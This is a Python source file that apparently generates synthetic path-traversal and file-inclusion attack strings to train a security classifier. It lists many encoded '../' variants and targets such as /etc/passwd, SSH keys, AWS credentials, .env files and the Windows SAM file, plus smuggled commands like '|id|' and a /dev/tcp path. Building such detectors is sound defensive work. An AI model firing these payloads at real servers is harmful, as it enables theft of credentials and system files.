"""Path traversal and inclusion of local or remote files, in plain and odd encodings."""

from __future__ import annotations

from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.attacks.style import mixed_case
from securitai.train.corpora.kinds import (
    COOKIE,
    FILENAME,
    HEADER,
    NAME,
    PATH,
    VALUE,
    AttackKind,
)
from securitai.verdict import Category

_DOTS = (
    "..", "..", "..", "..", "%2e%2e", ".%2e", "%2e.", "%252e%252e", "%c0%ae%c0%ae", "%c0%ae.",
    "%uff0e%uff0e", "%u002e%u002e", "%25c0%25ae%25c0%25ae", "%e0%80%ae%e0%80%ae",
    "%f0%80%80%ae%f0%80%80%ae", "%f8%80%80%80%ae%f8%80%80%80%ae",
    "%fc%80%80%80%80%ae%fc%80%80%80%80%ae", "0x2e0x2e", "%%32%65%%32%65", "%25%32%65%25%32%65",
    "....", "...", ".?", "%c0%2e%c0%2e", "%%c0%6e%c0%6e", "%c0%fe%c0%fe", ".%00.", "..%00",
    "\uff0e\uff0e", "%00..", "..;", "%2e%2e;", ".%252e", "..%01", "\\x2e\\x2e", "\\u002e\\u002e",
    "%ef%bc%8e%ef%bc%8e", "&#46;&#46;", "..%0d", "..%09", ". .", "%e2%80%a5", "%25252e%25252e",
    "x..", "%c4%ae%c4%ae", "..%ff", "\u2025", "..%20", "./..", "\u3002\u3002",
)  # fmt: skip
_SEPARATORS = (
    "/", "/", "/", "/", "/", "\\", "\\", "%2f", "%2F", "%5c", "%252f", "%255c", "//", "\\\\",
    "%c0%af", "%c0%9v", "%c1%9c", "%c1%1c", "%c1%8s", "%u2215", "%u2216", "%25c0%25af",
    "%25c1%259c", "%e0%80%af", "%f0%80%80%af", "%f8%80%80%80%af", "0x2f", "0x5c", "%%32%66",
    "%%35%63", "%25%32%66", "/./", "\\/", "/\\", "%c0%2f", "%c0%5c", "%bg%qf", "\u2215", "\u2216",
    "\uff0f", "/;/", "%00/", "\\x2f", "\\u002f", "///", "/%2e/", "\\.\\", "%%35%%63", "2f",
    "%uF025", "%2f/", "%2f%2f", "%uefc8", "/%00/", "%25252f", "%ef%bc%8f", "/////", "/.//",
)  # fmt: skip
_NESTED = (
    "....//", "....\\\\", "..././", "...\\.\\", "....\\/", "....//..//", ".../...//", "..//..//",
    "/..//..", "..../\\", "%2e%2e%2f/", "....%2f%2f", "..././..././", ".//..//", "..\\/..\\/",
    "./../", "../.", "..//", "/./../", "//..", "..///", "..;/", "..%5c/", "...//...//",
)  # fmt: skip


def climb(rng: Random) -> str:
    """A run of steps to the parent folder, all of one spelling or each its own."""
    count = 1 + int(rng.expovariate(0.2))
    count = min(count, 24)
    if rng.random() < 0.15:
        return _NESTED[int(rng.random() * len(_NESTED))] * count
    if rng.random() < 0.03:
        return "".join(
            [
                _DOTS[int(rng.random() * len(_DOTS))]
                + _SEPARATORS[int(rng.random() * len(_SEPARATORS))]
                for _ in range(count)
            ]
        )
    return _step(rng) * count


def _step(rng: Random) -> str:
    if rng.random() < 0.5:
        return "../"
    return _DOTS[int(rng.random() * len(_DOTS))] + _SEPARATORS[int(rng.random() * len(_SEPARATORS))]


def climb_file(rng: Random) -> str:
    """A climb and a file behind it whose separators follow the spelling of the climb."""
    steps = climb(rng)
    windows = rng.random() < 0.25
    target = (_WINDOWS if windows else _UNIX)(rng).lstrip("/")
    if rng.random() < 0.45 and not steps.startswith("../"):
        for separator in ("%252f", "%c0%af", "%2f", "%5c", "\\", "%u2215", "%255c", "0x2f"):
            if separator in steps:
                target = target.replace("/", separator)
                break
    if rng.random() < 0.06:
        target = mixed_case(rng, target)
    return steps + target


def junk_prefix(rng: Random) -> str:
    """Rows of dots, of ``./`` or of one letter before a climb, as old filters overflowed."""
    unit = (".", "./", "A", "/", "\\", "././", "/.")[int(rng.random() * 7)]
    return unit * (20 + int(rng.random() * 300))


_FILES = Grammar(
    r"""
unix:
  6×‹u_file›
  ‹webinf›
  {FILE}
  ‹az›/‹az›.‹php¦txt¦conf¦jsp¦ini¦xml¦log¦yml›
  config.php
  wp-config.php
  config/database.‹php¦yml›
  .env
  bin/sh
  usr/local/lib/php/pearcmd.php
  usr/local/php/pearcmd
  sessions/sess_‹rnd›
  tmp/sess_‹rnd32›
  conf/datasource‹Az›.properties
  config/config_db.php
  server/pages-manifest.json
  app/config/parameters.yml
  settings.py
  web.config
  application.properties
  bin/ls
  vpns/portal/‹az›.xml
  dev/cmdb/sslvpn_websession
  etc
  data/pbx/‹az›.conf
webinf = WEB-INF/web.xml¦WEB-INF/classes/application.properties¦META-INF/MANIFEST.MF¦WEB-INF/applicationContext.xml¦web-inf/web.xml¦WEB-INF/config/db.xml¦WEB-INF/struts-config.xml¦WEB-INF/weblogic.xml¦META-INF/context.xml¦WEB-INF/spring.xml
windows:
  6×‹w_file›
  windows\win.ini
  winnt\system32\cmd.exe?/c+dir
  windows/system32/cmd.exe
  windows\system32\drivers\etc\hosts
  boot.ini
  inetpub\wwwroot\web.config
  Windows\System32\config\SAM
""",
    PARTS,
)
_UNIX, _WINDOWS = _FILES.maker("unix"), _FILES.maker("windows")

_G = Grammar(
    r"""
ext = .jpg¦.png¦.html¦.php¦.txt¦.gif¦.pdf¦.ini¦index.html¦.htm¦.xml¦.js¦.css¦
after:
  8×‹e›
  3×%00
  2×%00‹ext›
  ‹nul›
  ‹nul›‹ext›
  ;‹ext›
  ;index.html
  ?
  #
  %23
  %3f
  /
  /.
  .
  ::$DATA
  %0a
  ^^
  \x00
  %2500
  ‹ext›
  ?‹ext›
  /‹az›/..
  |id|
  &‹az›=‹az›
  ;/
  %20
before:
  8×‹e›
  3×/
  ‹az›/
  /‹az›/
  \
  ./
  /var/www/images/
  /‹static¦images¦public¦assets¦icons¦cgi-bin¦download¦files¦css¦lib¦theme¦plugins¦uploads›/
  ‹az›.‹pdf¦jpg¦png›/
  file:
  file:///
  /..
  C:/
  ‹site›/
  %00
  file%3a//
  x/
  //
climbing:
  12×‹before›‹climbfile›‹after›
  3×‹climb›
  /‹climb›
  ‹junk›‹climbfile›
  ‹climbfile›
  ../‹az›.‹php¦jsp¦conf¦txt¦env¦json¦yml›
  ../../‹az›/‹az›.‹php¦jsp¦xml¦config¦log›
  ..\..\‹az›\‹az›.‹asp¦aspx¦config¦ini›
  ./../‹az›/‹az›.php
  /../../
  ../
  ..\
  ..%2f
  /..
  ..;/
  /%2e%2e/
  /‹az›/../../../
  ‹word›/../../../../
  ./.././../
  /%5c../%5c../‹u_file›
pathclimb:
  8×/‹dir›/‹climbfile›
  3×/‹dir›/‹az›/‹climbfile›
  3×/‹climbfile›
  2×/‹dir›/..;/‹dir›/‹az›
  /‹dir›/‹az›.‹js¦css¦png¦jpg¦do¦html›/..;/‹manager/html¦admin¦api¦actuator/env¦console›
  /‹dir›/;/‹webinf›
  /‹dir›/_/;/‹webinf›
  /‹dir›//‹webinf›
  /%20../‹webinf›
  /.//‹webinf›
  /‹webinf›
  /;/‹webinf›
  /‹dir›;‹az›/‹webinf›
  /‹dir›/%2e/‹webinf›
  /‹dir›/c:/windows/win.ini
  /‹dir›/%c0%ae%c0%ae/‹webinf›
  /‹dir›/../‹dir›/‹az›.‹conf¦json¦xml¦ini¦cfg¦db›
  /‹dir›../‹az›/‹az›.py
  /‹dir›..%2f‹dir›/
  /‹dir›/%2e%2e/‹dir›/‹az›
  /‹dir›/.%2e/.%2e/.%2e/bin/sh
  /@fs‹u_file›?raw
  /@fs/C:/windows/win.ini?import&raw??
  /‹dir›/..%252f..%252f..%252f‹etc/passwd¦windows/win.ini›
  /‹dir›/image:///etc/passwd
  /‹dir›///etc/passwd
  /‹dir›//////////////////../../../../../../etc/passwd
  /..%5c..%5c..%5c..%5cetc/passwd
  /%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
  /‹dir›/\..\..\..\..\windows\win.ini
  /‹dir›/%5C..%5C..%5C..%5Cwindows%5Cwin.ini
  /%SYSTEMROOT%\win.ini
dir = static¦images¦public¦assets¦icons¦cgi-bin¦download¦files¦css¦lib¦theme¦plugins¦uploads¦api¦admin¦app¦js¦media¦resources¦content¦web¦portal¦console¦wp-content¦node_modules¦scripts¦docs¦logs¦vpn¦page¦servlet¦help¦img¦data¦public¦_next/static¦ui¦common¦file¦manager¦res¦base_import/static¦jobmanager/logs
absolute:
  6×‹u_file›‹after›
  3×‹drive›‹w_file›‹after›
  2×file://‹u_file›
  file:///‹drive›‹w_file›
  file:‹u_file›
  file:////‹u_file›
  file://localhost‹u_file›
  file:///
  file:///proc/self/‹cwd/¦environ¦fd/3¦root/›
  FILE:///etc/passwd
  f%69le:///etc/passwd
  url:file://‹u_file›
  netdoc:‹u_file›
  \\‹host›\‹az›\‹az›.‹txt¦dll¦php›
  \\localhost\c$\windows\win.ini
  //‹host›/‹az›/‹az›
  \\.\C:\boot.ini
  \\?\C:\windows\win.ini
  \\127.0.0.1\c$\‹w_file›
  %SYSTEMROOT%\win.ini
  %WINDIR%\system32\drivers\etc\hosts
  ~/.ssh/id_rsa
  ~root/.bashrc
  ~/.aws/credentials
  ‹webinf›
  /‹webinf›
  classpath:‹webinf›
  classpath:application.properties
  jar:file://‹u_file›!/
  /etc/‹az›/../passwd
  /etc/./passwd
  //etc//passwd
  /etc/passwd/./././././././
  /???/passwd
  /e?c/p*wd
  %2fetc%2fpasswd
  %252fetc%252fpasswd
  /%65%74%63/%70%61%73%73%77%64
  etc/passwd
  .htaccess
  .htpasswd
  .git/config
  C:\\‹az›\\‹az›.ini
  L2V0Yy9wYXNzd2Q=
  Li4vLi4vLi4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA==
  /proc/self/fd/‹#0-40›
  /proc/‹#1-9999›/fd/‹#0-40›
  /dev/tcp/‹ip›/‹port›
  /sys/class/net/eth0/address
drive = c:/¦C:/¦c:\¦C:\¦c://¦d:/¦C:\\¦/C:/¦c|/
""",
    _FILES,
    {
        "climb": climb,
        "climbfile": climb_file,
        "junk": junk_prefix,
    },
)


_ALL = (VALUE, COOKIE, HEADER, NAME)
KINDS = (
    AttackKind(
        "traversal.climb",
        Category.PATH_TRAVERSAL,
        _G.maker("climbing"),
        6.0,
        (VALUE, COOKIE, HEADER, FILENAME, PATH),
    ),
    AttackKind("traversal.path", Category.PATH_TRAVERSAL, _G.maker("pathclimb"), 4.0, (PATH,)),
    AttackKind("traversal.absolute", Category.PATH_TRAVERSAL, _G.maker("absolute"), 3.0, _ALL),
)
